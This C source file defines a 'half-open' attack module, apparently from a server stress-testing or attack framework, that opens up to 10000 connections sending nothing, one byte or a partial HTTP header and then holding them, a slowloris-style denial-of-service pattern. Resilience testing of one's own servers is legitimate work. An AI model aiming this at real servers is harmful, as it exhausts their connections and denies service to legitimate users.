/* half_open.c - connections that send part of a request, or nothing, and wait. */
/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <string.h>

static void on_open(struct attacker *attacker, struct conn *conn)
{
    static const char *const starts[] = {"", "GET / HTTP/1.1\r\nHost: x\r\n", "G"};
    const char *start = starts[conn->index % 3];
    net_send(&attacker->net, conn, start, strlen(start));
}

const struct attack attack_half_open = {.name = "half-open", .width = 10000, .on_open = on_open};
